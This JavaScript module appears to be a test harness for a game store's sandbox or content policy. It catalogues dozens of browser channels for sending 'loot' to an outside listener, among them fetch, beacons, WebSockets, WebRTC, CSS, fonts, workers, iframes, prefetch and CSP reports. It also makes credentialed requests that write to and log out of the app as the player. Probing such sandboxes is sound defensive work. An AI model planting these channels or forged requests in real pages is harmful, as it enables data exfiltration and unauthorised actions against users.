import { app, knocked, outside } from './config.js';

const add = (tag, said) => {
  const element = Object.assign(document.createElement(tag), said);
  document.head.append(element);
  return element;
};
const source = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
const style = (css) => add('style', { textContent: css });

/** A child frame, once it is there. Where it may be reached into, it fetches in its own name. */
async function throughChild(said, name) {
  const child = Object.assign(document.createElement('iframe'), said);
  const loaded = new Promise((resolve) => (child.onload = resolve));
  document.body.append(child);
  await loaded;
  await child.contentWindow.fetch(at(name), { mode: 'no-cors' });
  return 'sent';
}

/** What hears of each way: its name is in the address. */
const at = (name) => `${outside}/${name}`;
const says = (name) => `fetch('${at(name)}', { mode: 'no-cors' })`;

/** Every way to send something elsewhere. Whether it arrived, the one who listens there knows. */
const sent = {
  fetch: (to) => fetch(to, { mode: 'no-cors' }).then(() => 'sent'),
  'fetch-kept-alive': (to) => fetch(to, { mode: 'no-cors', keepalive: true }).then(() => 'sent'),
  xhr: (to) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve('sent');
      request.onerror = () => reject(new Error('refused'));
      request.open('POST', to);
      request.send('loot');
    }),
  beacon: (to) => void navigator.sendBeacon(to, 'loot'),
  websocket: (to) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(to.replace('http', 'ws'));
      socket.onopen = () => resolve('open');
      socket.onerror = () => reject(new Error('refused'));
    }),
  eventsource: (to) => void new EventSource(to),
  webtransport: async (to) => {
    await new WebTransport(to.replace('http:', 'https:')).ready;
    return 'open';
  },
  image: (to) => void (new Image().src = to),
  'image-set': (to) => void add('img', { srcset: `${to} 2x` }),
  'image-in-svg': (to) =>
    void document.body.insertAdjacentHTML('beforeend', `<svg><image href="${to}" width="9" height="9"/></svg>`),
  attribution: (to) => void document.body.insertAdjacentHTML('beforeend', `<img attributionsrc="${to}" src="x">`),
  script: (to) => void add('script', { src: to }),
  'module-script': (to) => void add('script', { type: 'module', src: to }),
  'imported-module': (to) => import(to),
  stylesheet: (to) => void add('link', { rel: 'stylesheet', href: to }),
  'imported-style': (to) => void style(`@import '${to}'`),
  background: (to) => void style(`#state { background: url('${to}') }`),
  cursor: (to) => void style(`#state { cursor: url('${to}'), auto }`),
  font: async (to) => {
    await new FontFace('Evil', `url('${to}')`).load();
  },
  'font-in-style': (to) =>
    void style(`@font-face { font-family: E; src: url('${to}') } #state { font-family: E, serif }`),
  video: (to) => void Object.assign(document.createElement('video'), { src: to, preload: 'auto' }).load(),
  audio: (to) => void new Audio(to).load(),
  object: (to) => void document.body.append(Object.assign(document.createElement('object'), { data: to })),
  embed: (to) => void document.body.append(Object.assign(document.createElement('embed'), { src: to })),
  frame: (to) => void document.body.append(Object.assign(document.createElement('iframe'), { src: to })),
  prefetch: (to) => void add('link', { rel: 'prefetch', href: to }),
  preload: (to) => void add('link', { rel: 'preload', as: 'image', href: to }),
  modulepreload: (to) => void add('link', { rel: 'modulepreload', href: to }),
  prerender: (to) => void add('link', { rel: 'prerender', href: to }),
  speculation: (to) =>
    void add('script', {
      type: 'speculationrules',
      textContent: JSON.stringify({
        prefetch: [{ source: 'list', urls: [to], eagerness: 'immediate' }],
        prerender: [{ source: 'list', urls: [to], eagerness: 'immediate' }],
      }),
    }),
  manifest: (to) => void add('link', { rel: 'manifest', href: to }),
  icon: (to) => void add('link', { rel: 'icon', href: to }),
  base: (to) => {
    const base = add('base', { href: `${to}/` });
    const image = new Image();
    image.src = 'based';
    base.remove();
  },
  ping: (to) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: to });
    document.body.append(link);
    link.click();
  },
  form: (to) => {
    const form = Object.assign(document.createElement('form'), { action: to, method: 'post', target: 'sink' });
    document.body.append(Object.assign(document.createElement('iframe'), { name: 'sink' }), form);
    form.submit();
  },
  'a-child-s-address': (to) => {
    const child = document.createElement('iframe');
    document.body.append(child);
    child.contentWindow.location = to;
  },
  report: (to) => {
    const content = `img-src 'none'; report-uri ${to}`;
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content }),
    );
  },
  later: (to) => void fetchLater(to, { method: 'POST', body: 'loot', activateAfter: 0 }),
};

/** Fetches from where another policy might hold. */
const elsewhere = {
  'blob-worker': () => void new Worker(source(says('blob-worker'))),
  'data-worker': () => void new Worker(`data:text/javascript,${says('data-worker')}`),
  'module-worker': () => void new Worker(source(`import '${at('module-worker')}'`), { type: 'module' }),
  'imported-script': () => void new Worker(source(`importScripts('${at('imported-script')}')`)),
  'worker-from-elsewhere': () => void new Worker(at('worker-from-elsewhere')),
  'shared-worker': () => void new SharedWorker(source(says('shared-worker'))),
  'shared-worker-from-elsewhere': () => void new SharedWorker(at('shared-worker-from-elsewhere')),
  worklet: () => CSS.paintWorklet?.addModule(at('worklet')),
  'audio-worklet': () => new OfflineAudioContext(1, 1, 44_100).audioWorklet.addModule(at('audio-worklet')),
  'empty-child': () => throughChild({}, 'empty-child'),
  'written-child': () => throughChild({ srcdoc: '<p>x' }, 'written-child'),
  'blob-child': () =>
    throughChild({ src: URL.createObjectURL(new Blob(['<p>x'], { type: 'text/html' })) }, 'blob-child'),
  'data-child': () =>
    void document.body.append(
      Object.assign(document.createElement('iframe'), { src: `data:text/html,<script>${says('data-child')}</script>` }),
    ),
  'script-child': () =>
    void document.body.append(
      Object.assign(document.createElement('iframe'), { src: `javascript:${says('script-child')}` }),
    ),
  'own-page-child': () => throughChild({ src: '/empty.html' }, 'own-page-child'),
  'own-script-child': () => throughChild({ src: '/evil.js' }, 'own-script-child'),
  // A page that is not there is a page all the same, with whatever rules it comes with.
  'missing-page-child': () => throughChild({ src: '/not/there' }, 'missing-page-child'),
  'store-s-missing-page-child': () => throughChild({ src: '/_play/nothing' }, 'store-s-missing-page-child'),
  'ended-preview-child': () => throughChild({ src: '/_preview/x.y.z/' }, 'ended-preview-child'),
  'shell-child': () => throughChild({ src: '/_play/shell.html' }, 'shell-child'),
  'worker-script-child': () => throughChild({ src: '/sw.js' }, 'worker-script-child'),
  'too-long-a-child': () => throughChild({ src: `/${'x'.repeat(20_000)}` }, 'too-long-a-child'),
  'bad-address-child': () => throughChild({ src: '/%ff' }, 'bad-address-child'),
};

/** A call to somebody who notes whoever knocks. */
async function call(iceServers) {
  const peer = new RTCPeerConnection({ iceServers });
  peer.createDataChannel('loot');
  await peer.setLocalDescription();
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  peer.close();
}

/** Calls to the app with what the browser knows of the player there. */
const toApp = {
  'asks the app in the player’s name': () => fetch(`${app}/api/me`, { credentials: 'include' }),
  'asks the app without reading': () => fetch(`${app}/api/me`, { credentials: 'include', mode: 'no-cors' }),
  'writes to the app in the player’s name': () =>
    fetch(`${app}/api/wishlist`, { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' }),
  'asks the app by the older way': () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.withCredentials = true;
      request.onload = resolve;
      request.onerror = () => reject(new Error('refused'));
      request.open('GET', `${app}/api/me`);
      request.send();
    }),
  'drops a write at the app on leaving': () => void navigator.sendBeacon(`${app}/api/logout`, '{}'),
  'logs the player out with a picture': () => void (new Image().src = `${app}/api/login/start`),
  'runs the app’s script': () => void add('script', { src: `${app}/sw.js` }),
  'listens to the app': () => void new EventSource(`${app}/api/me`, { withCredentials: true }),
  'opens a line to the app': () => void new WebSocket(`${app.replace('http', 'ws')}/api/sync`),
  'fetches the app ahead': () => void add('link', { rel: 'prefetch', href: `${app}/library` }),
};

export const ways = {
  ...Object.fromEntries(Object.entries(sent).map(([name, act]) => [`by ${name}`, () => act(at(name))])),
  ...Object.fromEntries(Object.entries(elsewhere).map(([name, act]) => [`from ${name}`, act])),
  ...toApp,
  'by call': () => call([{ urls: `stun:${new URL(outside).host}` }]),
  'by call through a relay': () =>
    call([{ urls: `turn:${new URL(knocked).host}?transport=tcp`, username: 'loot', credential: 'loot' }]),
  'by connection': () => void add('link', { rel: 'preconnect', href: knocked }),
};
